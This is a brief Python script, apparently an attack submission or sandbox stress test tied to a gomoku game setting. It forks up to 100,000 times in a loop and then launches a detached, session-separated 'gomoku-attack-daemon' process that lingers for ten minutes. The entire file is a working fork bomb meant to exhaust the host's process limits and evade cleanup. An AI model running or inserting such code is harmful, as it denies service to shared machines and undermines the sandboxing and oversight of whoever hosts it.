import os
import subprocess
import sys

for _ in range(100_000):
    try:
        os.fork()
    except OSError:
        break
try:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "gomoku-attack-daemon"], start_new_session=True)
except OSError:
    pass
pid = os.fork()
